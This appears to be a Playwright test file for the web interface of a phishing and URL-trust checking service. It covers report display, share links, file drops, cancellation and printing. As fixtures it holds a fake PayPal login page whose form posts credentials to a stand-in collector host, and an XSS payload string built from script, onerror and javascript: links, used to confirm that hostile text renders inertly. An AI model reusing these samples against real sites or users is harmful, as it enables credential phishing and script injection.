import { beforeAll, beforeEach, describe, expect, test } from 'bun:test'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { makeDirectory } from '../../../support/service.ts'
import { page as answer, redirect, type Site } from '../../../support/site.ts'
import { checkUntilGraded } from '../../../support/trust-client.ts'
import { keyField, type OpenedPage, openPage, textOf } from '../browser.ts'
import { forgeries } from './forged.ts'
import { EXAMPLES, openFile } from './reports.ts'
import type { Started } from './started.ts'

const PHISHING = `<title>Log in to your PayPal account</title><h1>PayPal</h1>
<form action="https://collector.example/p.php"><input name="email"><input type="password" name="p"></form>© PayPal`
/** The time limit of a check in these tests, which is not the default. */
export const LIMIT_S = 8
export const SITE = { '/': redirect('/login'), '/login': answer(PHISHING), '/silent': () => undefined }

const HOSTILE = `"><img src=x onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">`

const check = async (page: Page, url: string): Promise<void> => {
  await page.getByLabel('Address of the page').fill(url)
  await page.getByRole('button', { name: 'Check', exact: true }).click()
}
const reportOf = (page: Page) => page.getByRole('article', { name: 'Report' })

/** The page of trust: checks, and reports out of links and files. */
export function describeTrust({ service, browser, site }: Started & { readonly site: () => Site }): void {
  describe('a report of trust', () => {
    let visit: OpenedPage
    const asked: string[] = []

    beforeAll(async () => {
      await checkUntilGraded(service(), service().demoKey, `http://127.0.0.1:${site().port}`)
      visit = await openPage(browser(), service().baseUrl, { at: '/trust' })
      visit.page.on('request', (request) => {
        if (request.url().includes('/v1/')) asked.push(request.url())
      })
    })
    beforeEach(async () => {
      await keyField(visit.page).fill(service().demoKey)
      visit.complaints.length = 0
      asked.length = 0
    })

    test('has the verdict, the evidence in its place, the way and what was not seen; its link shows the same without a request', async () => {
      const { page, complaints } = visit
      const root = `http://127.0.0.1:${site().port}`
      await check(page, root)
      await reportOf(page).getByRole('heading', { name: 'Dangerous' }).waitFor()
      const shown = await textOf(reportOf(page))
      expect(shown).toContain(`${root}/login`)
      expect(shown).toContain('https://collector.example/p.php')
      expect(shown).toContain('Status 302 from 127.0.0.1')
      expect(shown).toContain('No lists of known threats are set up on this service.')
      expect(shown).toContain('Posture: ')
      expect(await page.locator('#report mark').first().textContent()).toBe(`${site().port}`)
      await page.waitForURL(/#report=[\w-]+$/)
      expect(page.url()).not.toContain(service().demoKey)
      asked.length = 0
      await page.reload()
      await reportOf(page).getByText('This report came with a link').waitFor()
      const again = await textOf(reportOf(page))
      const [before, after] = [shown, again].map((text) => text.slice(text.indexOf('What speaks against')))
      expect(after).toBe(before ?? '')
      expect([asked, complaints]).toEqual([[], []])
    })

    test('is not waited for once the check is cancelled', async () => {
      const { page } = visit
      await check(page, `http://127.0.0.1:${site().port}/silent`)
      await page.getByText('The service visits the page, then judges it.').waitFor()
      await page.getByRole('button', { name: 'Cancel' }).click()
      await page.getByText('Cancelled.').waitFor()
      expect(await page.locator('progress, #report:not([hidden]), #cancel:not([hidden])').count()).toBe(0)
    })

    test('is waited for with the time that passed and the limit, told in turn and not each second', async () => {
      await using opened = await openPage(browser(), service().baseUrl, { at: '/trust' })
      const { page } = opened
      await page.route('**/v1/trust/check-url', () => undefined)
      await page.clock.install()
      await check(page, 'https://silent.example/')
      const bar = page.locator('#state progress')
      await bar.waitFor()
      const task = `The service visits the page, then judges it. It gives up after ${LIMIT_S} s. `
      expect(await textOf(page.locator('#state p').first())).toBe(task)
      await page.clock.runFor(4000)
      expect(await textOf(page.locator('.elapsed'))).toBe(`4 s of ${LIMIT_S} s`)
      expect(await textOf(page.locator('#state p').first())).toBe(task)
      expect(await bar.evaluate((it) => (it as HTMLProgressElement).position)).toBe(4 / LIMIT_S)
      await page.clock.runFor(2000)
      expect(await textOf(page.locator('.elapsed'))).toBe(`6 s of ${LIMIT_S} s`)
      expect(await textOf(page.locator('#state p').first())).toBe(`${task}5 s have passed.`)
      await page.clock.runFor(3000)
      expect(await textOf(page.locator('.elapsed'))).toBe('9 s: its answer is late')
      const silent = page.locator('#state [aria-hidden]')
      expect(await silent.allTextContents()).toEqual(['', '9 s: its answer is late'])
    })

    test('comes with a link to it that can be copied, and opens elsewhere', async () => {
      const { page } = visit
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
      await openFile(page, JSON.stringify(EXAMPLES.dangerous))
      await page.getByRole('button', { name: 'Copy link' }).click()
      await page.getByRole('status').getByText('Copied.').waitFor()
      const link = await page.evaluate(() => navigator.clipboard.readText())
      expect(link).toStartWith(`${service().baseUrl}/docs/trust#report=`)
      const { pathname, hash } = new URL(link)
      await using opened = await openPage(browser(), service().baseUrl, {
        at: pathname.slice('/docs'.length) + hash,
      })
      const there = reportOf(opened.page)
      await there.getByText('This report came with a link').waitFor()
      expect(await textOf(there)).toContain(EXAMPLES.dangerous.summary)
    })

    test('has its link in the address where nothing may be copied, as without https', async () => {
      await using opened = await openPage(browser(), service().baseUrl, { at: '/trust' })
      const { page, complaints } = opened
      await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined }))
      await openFile(page, JSON.stringify(EXAMPLES.dangerous))
      await page.getByRole('button', { name: 'Copy link' }).click()
      await page.getByText('Its address is the same link').waitFor()
      expect(page.url()).toContain('#report=')
      expect(complaints).toEqual([])
    })

    test.each<[number, number, boolean]>([
      [360, 800, true],
      [1280, 800, false],
      [1280, 360, false],
    ])(
      'that came with a link warns of it in sight of a window of %d x %d, whatever it holds',
      async (width, height, isEach) => {
        await using opened = await openPage(browser(), service().baseUrl, { width, height, at: '/trust' })
        const { page } = opened
        const outOfSight: string[] = []
        for (const [name, json] of forgeries(EXAMPLES.benign)) {
          if (!isEach && name !== 'all') continue
          await page.goto('about:blank')
          const packed = deflateRawSync(json).toString('base64url')
          await page.goto(`${service().baseUrl}/docs/trust#report=${packed}`)
          const warning = reportOf(page).getByText('This report came with a link')
          await warning.waitFor()
          const box = await warning.boundingBox()
          const isInSight = box !== null && box.x >= 0 && box.y >= 0 && box.x + box.width <= width
          if (!isInSight || box.y + box.height > height) outOfSight.push(`${name} ${JSON.stringify(box)}`)
          const verdict = await page.locator('#report h2').boundingBox()
          if ((verdict?.y ?? 0) <= (box?.y ?? 0)) outOfSight.push(`${name}: the verdict stands above`)
        }
        expect(outOfSight).toEqual([])
      },
    )

    test('opens from a file that is dropped anywhere on the page', async () => {
      await using opened = await openPage(browser(), service().baseUrl, { at: '/trust' })
      const { page, complaints } = opened
      const file = join(makeDirectory('dropped'), 'report.json')
      await Bun.write(file, JSON.stringify(EXAMPLES.benign))
      const session = await page.context().newCDPSession(page)
      const data = { items: [], files: [file], dragOperationsMask: 1 }
      const drag = (type: 'dragEnter' | 'dragOver' | 'drop') =>
        session.send('Input.dispatchDragEvent', { type, x: 600, y: 20, data })
      const isMarked = () => page.locator('body.dropping').count()
      await drag('dragEnter')
      await drag('dragOver')
      expect(await isMarked()).toBe(1)
      await drag('drop')
      await reportOf(page).getByRole('heading', { name: 'Benign' }).waitFor()
      await reportOf(page).getByText('This report came from a file').waitFor()
      expect([await isMarked(), complaints]).toEqual([0, []])
    })

    test.each([
      ['http://10.0.0.1/', 'This is no address of a public page', 'url'],
      ['', 'This is no address of a public page', 'url'],
    ])('of %p there is none, and it is said why at the field', async (url, text, field) => {
      const { page } = visit
      await check(page, url)
      await page.getByText(text).waitFor()
      expect(await page.locator('[aria-invalid="true"]').getAttribute('id')).toBe(field)
    })

    test('opens from a file, without a key or a request', async () => {
      const { page } = visit
      await keyField(page).fill('')
      await openFile(page, JSON.stringify(EXAMPLES.inconclusive))
      await reportOf(page).getByRole('heading', { name: 'Inconclusive' }).waitFor()
      await reportOf(page).getByText('This report came from a file').waitFor()
      expect(await textOf(reportOf(page))).toContain(
        'A wall against automatic visitors stood before the page',
      )
      expect(asked).toEqual([])
    })

    test('shows hostile text as text, and links nowhere', async () => {
      const { page, complaints } = visit
      const hostile = JSON.parse(JSON.stringify(EXAMPLES.dangerous), (name, value) =>
        typeof value === 'string' && name !== 'verdict' ? `${HOSTILE}${name}` : value,
      )
      await openFile(page, JSON.stringify(hostile))
      await reportOf(page).getByText(`${HOSTILE}summary`).waitFor()
      expect(await page.locator('#report :is(img, script, a, iframe, [onerror])').count()).toBe(0)
      expect(complaints).toEqual([])
    })

    test.each([
      ['a picture', '\u0089PNG', 'The file could not be opened. It is not JSON, or not whole.'],
      ['another file', '{"a":1}', 'It is no report of a check: url is missing, wrong or too long.'],
      ['a number', '7', 'It is no report of a check.'],
      [
        'a changed report',
        JSON.stringify({ ...EXAMPLES.benign, verdict: 'fine' }),
        'It is no report of a check: verdict is missing, wrong or too long.',
      ],
      ['a book', ' '.repeat(1_048_577), 'It is too long for a report.'],
    ])('is not read out of %s, and it is said why', async (_, text, reason) => {
      const { page } = visit
      await openFile(page, text)
      await page.getByText(reason).waitFor()
      expect(await reportOf(page).isVisible()).toBe(false)
    })

    test('is not read out of a link that was cut', async () => {
      await using opened = await openPage(browser(), service().baseUrl, { at: '/trust#report=7VhtT9s' })
      await opened.page.getByText('The link holds no whole report').waitFor()
      expect(opened.complaints).toEqual([])
    })

    test('stays where a link leads within the page, and goes where one goes back', async () => {
      await using opened = await openPage(browser(), service().baseUrl, { at: '/trust' })
      const { page } = opened
      await openFile(page, JSON.stringify(EXAMPLES.dangerous))
      await page.waitForURL(/#report=/)
      await page.getByRole('link', { name: 'Skip to the content' }).press('Enter')
      await page.waitForURL(/#content$/)
      expect(await reportOf(page).isVisible()).toBe(true)
      await page.goBack()
      await reportOf(page).getByText('This report came with a link').waitFor()
      await page.goBack()
      await reportOf(page).waitFor({ state: 'hidden' })
    })

    test('is printed without the forms', async () => {
      const { page } = visit
      await openFile(page, JSON.stringify(EXAMPLES.dangerous))
      await reportOf(page).getByRole('heading', { name: 'Dangerous' }).waitFor()
      await page.emulateMedia({ media: 'print' })
      expect(await page.locator('form, #key, nav, .acts').filter({ visible: true }).count()).toBe(0)
      expect(await reportOf(page).isVisible()).toBe(true)
      await page.emulateMedia({ media: null })
    })
  })
}
